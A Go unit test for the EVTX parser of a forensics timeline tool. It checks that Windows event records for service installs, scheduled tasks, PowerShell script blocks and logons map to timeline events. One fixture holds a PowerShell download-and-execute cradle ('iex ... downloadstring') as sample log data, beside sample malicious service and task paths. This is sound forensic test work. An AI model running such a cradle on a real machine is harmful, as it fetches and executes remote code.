package evtx

import (
	"testing"

	"github.com/kiseki-forensics/kiseki/timeline"
)

// The corpus has no PowerShell, Task Scheduler, 4697/4698 or
// LocalSessionManager records: their mapping is checked here on the
// EventData/UserData values those records carry (field names from the
// Windows event manifests).
func TestRulesWithoutSamples(t *testing.T) {
	for _, c := range []struct {
		provider string
		id       int
		data     map[string]string
		action   string
		user     string
		path     string
		ip       string
		extraKey string
		extraVal string
	}{
		{provSecurity, 4697, map[string]string{"SubjectUserName": "alice", "ServiceName": "evil", "ServiceFileName": `C:\Windows\Temp\evil.exe`},
			timeline.ActionCreate, "alice", `C:\Windows\Temp\evil.exe`, "", "", ""},
		{provSecurity, 4698, map[string]string{"SubjectUserName": "alice", "TaskName": `\Updater`,
			"TaskContent": "<Task><Actions><Exec><Command>C:\\x.exe</Command><Arguments>-q</Arguments></Exec></Actions></Task>"},
			timeline.ActionCreate, "alice", `\Updater`, "", "command", `C:\x.exe -q`},
		{provTask, 106, map[string]string{"TaskName": `\Updater`, "UserContext": `CORP\alice`},
			timeline.ActionCreate, `CORP\alice`, `\Updater`, "", "", ""},
		{provTask, 200, map[string]string{"TaskName": `\Updater`, "ActionName": `C:\x.exe`},
			timeline.ActionExecute, "", `\Updater`, "", "command", `C:\x.exe`},
		{provPS, 4104, map[string]string{"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "iex (new-object net.webclient).downloadstring('http://x')", "ScriptBlockId": "b1", "Path": `C:\s.ps1`},
			timeline.ActionExecute, "", `C:\s.ps1`, "", "", ""},
		{provLSM, 21, map[string]string{"User": `CORP\bob`, "SessionID": "2", "Address": "198.51.100.7"},
			timeline.ActionLoginSuccess, `CORP\bob`, "", "198.51.100.7", "", ""},
		{provLSM, 24, map[string]string{"User": `CORP\bob`, "SessionID": "2", "Address": "LOCAL"},
			timeline.ActionLogout, `CORP\bob`, "", "", "", ""},
		{provSecurity, 4624, map[string]string{"TargetUserName": "bob", "LogonType": "10", "IpAddress": "::ffff:203.0.113.9", "IpPort": "50122"},
			timeline.ActionLoginSuccess, "bob", "", "203.0.113.9", "logon_type_name", "RemoteInteractive"},
		{provSecurity, 4625, map[string]string{"TargetUserName": "admin", "LogonType": "3", "IpAddress": "-", "IpPort": "-"},
			timeline.ActionLoginFailure, "admin", "", "", "logon_type", "3"},
	} {
		ru, ok := rules[key{c.provider, c.id}]
		if !ok {
			t.Errorf("%s %d: no rule", c.provider, c.id)
			continue
		}
		d := &fields{values: map[string]string{}}
		for k, v := range c.data {
			d.add(k, v)
		}
		var ev timeline.Event
		ev.Reset()
		ru.fill(d, &ev)
		got := ""
		for _, kv := range ev.Extra {
			if kv.Key == c.extraKey {
				got = kv.Value
			}
		}
		if ru.action != c.action || ev.User != c.user || ev.Path != c.path || ev.SrcIP != c.ip || got != c.extraVal {
			t.Errorf("%s %d: action %q user %q path %q ip %q %s=%q", c.provider, c.id, ru.action, ev.User, ev.Path, ev.SrcIP, c.extraKey, got)
		}
	}
}
